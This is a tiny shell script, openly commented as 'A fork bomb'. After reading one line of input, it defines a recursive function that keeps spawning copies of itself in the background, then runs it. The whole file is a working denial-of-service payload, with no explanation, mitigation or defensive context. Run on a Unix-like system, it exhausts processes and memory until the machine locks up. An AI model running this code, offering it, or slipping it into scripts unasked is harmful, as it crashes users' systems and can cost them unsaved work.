# A fork bomb.
read line
bomb() { bomb | bomb & bomb; }
bomb
